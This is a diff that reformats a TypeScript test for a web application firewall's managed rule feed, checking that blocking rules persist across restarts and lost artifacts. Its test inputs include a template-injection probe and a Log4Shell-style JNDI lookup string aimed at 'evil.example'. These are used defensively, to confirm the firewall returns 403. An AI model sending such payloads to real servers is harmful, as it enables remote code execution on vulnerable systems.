@@ -1,5 +1,6 @@
-// What a version was applied with is what it is brought back with: rules that the managed feed delivered protect as well
-// after the artifact is lost, a node comes back empty, the control plane restarts, or the feed has moved on meanwhile.
+// What a version was applied with is what it is brought back with: rules that the managed feed delivered protect as
+// well after the artifact is lost, a node comes back empty, the control plane restarts, or the feed has moved on
+// meanwhile.
 import { readdir, rm, writeFile } from 'node:fs/promises';
 import { createServer } from 'node:http';
 import type { AddressInfo } from 'node:net';
@@ -16,12 +17,34 @@ import { makeDirectory } from '../testing/temporary.js';
 import { connectDataPlane } from '../nodes/link.js';
 
 const patch = {
-  id: 1007900, cve: 'CVE-2026-10001', title: 'Example template injection', product: 'Example', affected: '1.x', cwe: 'CWE-94', severity: 'critical', phase: 2,
-  links: [['REQUEST_FILENAME', '@contains /example/render', 'urlDecodeUni,normalizePathWin,lowercase'], ['ARGS:template', '@contains {{']],
+  id: 1007900,
+  cve: 'CVE-2026-10001',
+  title: 'Example template injection',
+  product: 'Example',
+  affected: '1.x',
+  cwe: 'CWE-94',
+  severity: 'critical',
+  phase: 2,
+  links: [
+    ['REQUEST_FILENAME', '@contains /example/render', 'urlDecodeUni,normalizePathWin,lowercase'],
+    ['ARGS:template', '@contains {{'],
+  ],
   attack: [['a template', 'GET /example/render?template={{7*7}}']],
-  benign: [['no template', 'GET /example/render?template=plain'], ['elsewhere', 'GET /other?template={{x}}']],
+  benign: [
+    ['no template', 'GET /example/render?template=plain'],
+    ['elsewhere', 'GET /other?template={{x}}'],
+  ],
 };
-const feed = (version: number, patches: readonly unknown[]): string => JSON.stringify({ format: 'gatehouse-managed-feed/1', name: 'Test feed', version, issued: '2026-02-28T00:00:00Z', networks: [], catalog: [1007001], patches });
+const feed = (version: number, patches: readonly unknown[]): string =>
+  JSON.stringify({
+    format: 'gatehouse-managed-feed/1',
+    name: 'Test feed',
+    version,
+    issued: '2026-02-28T00:00:00Z',
+    networks: [],
+    catalog: [1007001],
+    patches,
+  });
 
 /** A control plane on this database and data directory; a second one is a restart of the first. */
 async function start(database: Database, env: Parameters<typeof connectDataPlane>[0]['env']) {
@@ -30,7 +53,8 @@ async function start(database: Database, env: Parameters<typeof connectDataPlane
   const at = await startTestApp(database, { outbound, applySettings: link.applySettings, expectedOf: link.expectedOf });
   await link.start(at.house);
   const { token } = await at.user('admin', `admin-${performance.now()}@example.org`);
-  const call = (method: string, path: string, body?: object): Promise<Reply> => at.call(method, path, { token, ...(body === undefined ? {} : { body }) });
+  const call = (method: string, path: string, body?: object): Promise<Reply> =>
+    at.call(method, path, { token, ...(body === undefined ? {} : { body }) });
   return {
     call,
     reconcile: () => link.road.reconcile(at.house.audit),
@@ -41,7 +65,8 @@ async function start(database: Database, env: Parameters<typeof connectDataPlane
   };
 }
 
-const ask = async (node: TestNode, path: string): Promise<number> => (await fetch(`http://127.0.0.1:${node.http}${path}`, { headers: { connection: 'close' } })).status;
+const ask = async (node: TestNode, path: string): Promise<number> =>
+  (await fetch(`http://127.0.0.1:${node.http}${path}`, { headers: { connection: 'close' } })).status;
 const attack = '/example/render?template={{7*7}}';
 const catalogued = '/?x=${jndi:ldap://evil.example/a}';
 
@@ -54,7 +79,14 @@ async function suite(t: Test, database: Database): Promise<void> {
   const upstream = await startUpstream(t);
   const adminPort = await freePort();
   const dataDirectory = await makeDirectory(t, 'managed');
-  const env = { dataAdminToken: nodeToken, dataAdminUrls: [`http://127.0.0.1:${adminPort}`], dataDirectory, crsDirectory: await writeRuleSet(t), upstreams: { customer: upstream, payment: upstream }, settingsEncryptionSecret: 'b'.repeat(40) };
+  const env = {
+    dataAdminToken: nodeToken,
+    dataAdminUrls: [`http://127.0.0.1:${adminPort}`],
+    dataDirectory,
+    crsDirectory: await writeRuleSet(t),
+    upstreams: { customer: upstream, payment: upstream },
+    settingsEncryptionSecret: 'b'.repeat(40),
+  };
   const artifacts = join(dataDirectory, 'artifacts');
   const drop = async (): Promise<void> => {
     for (const name of await readdir(artifacts)) await rm(join(artifacts, name));
@@ -68,8 +100,16 @@ async function suite(t: Test, database: Database): Promise<void> {
   };
   let plane = await start(database, env);
   const isHeld = async (how: string): Promise<void> => {
-    t.same([await ask(node, attack), await ask(node, catalogued), await ask(node, '/example/render?template=plain')], [403, 403, 200], how);
-    t.match((await plane.call('GET', '/api/managed-feed')).body, { rules_applied: true }, `${how}: and the status is true`);
+    t.same(
+      [await ask(node, attack), await ask(node, catalogued), await ask(node, '/example/render?template=plain')],
+      [403, 403, 200],
+      how,
+    );
+    t.match(
+      (await plane.call('GET', '/api/managed-feed')).body,
+      { rules_applied: true },
+      `${how}: and the status is true`,
+    );
   };
 
   t.equal((await plane.call('PATCH', '/api/settings', { mrf_enabled: true, mrf_url: url })).status, 200);
@@ -95,7 +135,11 @@ async function suite(t: Test, database: Database): Promise<void> {
   await isHeld('a control plane that has just started knows them too');
 
   served = feed(4, []);
-  t.match((await plane.call('POST', '/api/managed-feed/refresh')).body, { copy: { version: 4 }, rules_applied: false }, 'the feed goes on');
+  t.match(
+    (await plane.call('POST', '/api/managed-feed/refresh')).body,
+    { copy: { version: 4 }, rules_applied: false },
+    'the feed goes on',
+  );
   await emptyNode();
   await drop();
   await plane.reconcile();
